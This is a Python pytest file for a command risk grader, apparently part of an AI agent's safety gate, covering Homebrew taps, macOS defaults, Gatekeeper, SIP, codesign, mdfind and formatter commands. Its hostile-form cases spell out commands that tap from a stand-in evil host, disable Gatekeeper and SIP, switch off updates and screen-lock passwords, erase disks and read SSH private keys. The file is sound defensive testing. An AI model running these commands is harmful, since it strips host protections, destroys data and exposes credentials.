"""macOS developer tools and Homebrew taps. ``brew tap USER/REPO [URL]`` adds a formula repository whose Ruby
formulae later installs run (brew(1) "tap"): a package source, destructive on the host, but for Homebrew's own
``homebrew/*`` taps given no URL; ``brew install USER/REPO/FORMULA`` taps and installs from a tap Homebrew does not
maintain (brew(1) "SPECIFYING FORMULAE"): chosen-source. ``defaults write`` of the screen saver's password keys and
Software Update's automatic checks and security data updates is a security-critical change. plutil(1), spctl(8)
--status/--assess, csrutil(8) status, mdfind(1), mdls(1), diskutil(8) list/info, softwareupdate(8) --list/--history,
pbpaste(1)/pbcopy(1) and codesign(1) -d/-v are catalogued as reads (softwareupdate --list asks Apple: network),
while their changing forms stay high; codesign -s or --remove-signature of code outside the workspace replaces a
vendor's signature (host-critical). mdfind's output piped to a reader may name a credential file
(listing.py ``_mdfind``). ``cabal check`` only reads the package description and ``gleam format --check`` only
reports, while ``gleam format`` rewrites its files; ``ocamlformat`` prints or checks, ``-i`` rewrites. Each beside the everyday form."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel
from tests.risk.both_sides import graded, project

R = RiskLevel
_FILES = {
    "macos/Info.plist": '<?xml version="1.0"?><plist version="1.0"><dict/></plist>\n',
    "macos/Brewfile": 'brew "gleam"\n',
    "build/app": "binary placeholder\n",
}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("brew install evil/tools/fasttool", R.DESTRUCTIVE),
        ("brew reinstall someone/tap/tool", R.DESTRUCTIVE),
        ("brew install --cask someone/tap/app", R.DESTRUCTIVE),
        ("brew tap evil/tools https://git.evil.invalid/homebrew-tools.git", R.DESTRUCTIVE),
        ("brew tap evil/tools", R.DESTRUCTIVE),
        ("brew tap homebrew/core https://git.evil.invalid/core.git", R.DESTRUCTIVE),
        ("defaults write com.apple.screensaver askForPassword -int 0", R.DESTRUCTIVE),
        ("defaults -currentHost write com.apple.screensaver askForPasswordDelay -int 3600", R.DESTRUCTIVE),
        (
            "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate AutomaticCheckEnabled -bool false",
            R.DESTRUCTIVE,
        ),
        (
            "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate ConfigDataInstall -bool false",
            R.DESTRUCTIVE,
        ),
        ("plutil -replace LSQuarantine -bool NO ~/Library/Preferences/com.apple.LaunchServices.plist", R.DESTRUCTIVE),
        ("plutil -insert ProgramArguments -xml '<array/>' ~/Library/LaunchAgents/x.plist", R.DESTRUCTIVE),
        ("plutil -convert json -o /etc/x.json macos/Info.plist", R.DESTRUCTIVE),
        ("plutil -convert xml1 ~/Library/Preferences/com.apple.dock.plist", R.SYSTEM),
        ("sudo spctl --master-disable", R.DESTRUCTIVE),
        ("spctl --add --label Dev /tmp/x/tool", R.DESTRUCTIVE),
        ("csrutil disable", R.DESTRUCTIVE),
        ("csrutil clear", R.DESTRUCTIVE),
        ("diskutil eraseDisk APFS Scratch disk4", R.DESTRUCTIVE),
        ("sudo diskutil apfs deleteVolume disk3s5", R.DESTRUCTIVE),
        ("softwareupdate --schedule off", R.DESTRUCTIVE),
        ("softwareupdate -ia", R.DESTRUCTIVE),
        ("sudo codesign --force --deep -s - /Applications/Xcode.app", R.DESTRUCTIVE),
        ("codesign --remove-signature /Applications/Safari.app", R.DESTRUCTIVE),
        ("codesign -s - $APP", R.DESTRUCTIVE),
        ("codesign -d --entitlements ent.plist build/app", R.DESTRUCTIVE),
        ("mdfind 'kMDItemFSName == \"id_ed25519\"' | xargs cat", R.NETWORK),
        ("mdfind -name id_rsa | xargs cat", R.NETWORK),
        ("mdfind password | xargs cat", R.NETWORK),
        ("cat ~/.ssh/id_ed25519 | pbcopy", R.NETWORK),
        ("gleam format ~/x.gleam", R.SYSTEM),
        ("gleam format /etc/x.gleam", R.DESTRUCTIVE),
        ("cabal check --ghc-options=-pgmL/tmp/x/pp", R.DESTRUCTIVE),
        ("cd /tmp/x && cabal build", R.DESTRUCTIVE),
        ("ocamlformat -o /etc/x lib/a.ml", R.DESTRUCTIVE),
        ("ocamlformat -i ~/x.ml", R.SYSTEM),
        ("ocamlformat --inplace $(git ls-files '*.ml')", R.DESTRUCTIVE),
    ],
)
def test_hostile_form_keeps_a_high_grade(tmp_path: Path, command: str, expected: RiskLevel) -> None:
    ws = project(tmp_path, _FILES)
    risk, details = graded(command, ws)
    assert risk >= expected, details


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("brew install gleam", R.SYSTEM),
        ("brew install homebrew/cask/firefox", R.SYSTEM),
        ("brew tap homebrew/cask", R.SYSTEM),
        ("brew tap", R.SYSTEM),
        ("defaults write com.apple.dock autohide -bool true", R.SYSTEM),
        ("defaults read com.apple.screensaver askForPassword", R.READ_ONLY),
        ("plutil -lint macos/Info.plist", R.READ_ONLY),
        ("plutil -p macos/Info.plist", R.READ_ONLY),
        ("plutil -extract CFBundleIdentifier raw macos/Info.plist", R.READ_ONLY),
        ("plutil -convert xml1 macos/Info.plist", R.WORKSPACE_WRITE),
        ("plutil -convert binary1 -o macos/Info.bin macos/Info.plist", R.WORKSPACE_WRITE),
        ("spctl --status", R.READ_ONLY),
        ("spctl --assess -vv /Applications/Xcode.app", R.READ_ONLY),
        ("csrutil status", R.READ_ONLY),
        ("mdfind -onlyin . -name flake.nix", R.READ_ONLY),
        ("mdfind -onlyin . -name flake.nix | xargs cat", R.READ_ONLY),
        ("mdls macos/Info.plist", R.READ_ONLY),
        ("diskutil list", R.READ_ONLY),
        ("diskutil info /", R.READ_ONLY),
        ("softwareupdate -l", R.NETWORK),
        ("softwareupdate --history", R.READ_ONLY),
        ("pbpaste | jq .", R.READ_ONLY),
        ("pbpaste > notes.md", R.WORKSPACE_WRITE),
        ("git log -1 --format=%H | pbcopy", R.READ_ONLY),
        ("codesign -dv --verbose=4 /Applications/Xcode.app", R.READ_ONLY),
        ("codesign --verify --deep --strict /Applications/Safari.app", R.READ_ONLY),
        ("codesign -vvv --deep --strict build/app", R.READ_ONLY),
        ("codesign -s - --force build/app", R.WORKSPACE_WRITE),
        ("codesign --force -s 'Apple Development' build/app", R.WORKSPACE_WRITE),
        ("cabal check", R.READ_ONLY),
        ("gleam format --check src test", R.READ_ONLY),
        ("gleam format", R.WORKSPACE_WRITE),
        ("gleam format src/app.gleam", R.WORKSPACE_WRITE),
        ("gleam build", R.WORKSPACE_WRITE),
        ("ocamlformat --check lib/a.ml", R.READ_ONLY),
        ("ocamlformat lib/a.ml", R.READ_ONLY),
        ("ocamlformat -i lib/a.ml bin/main.ml", R.WORKSPACE_WRITE),
    ],
)
def test_everyday_form_is_not_over_graded(tmp_path: Path, command: str, expected: RiskLevel) -> None:
    ws = project(tmp_path, _FILES)
    risk, details = graded(command, ws)
    assert risk == expected, details
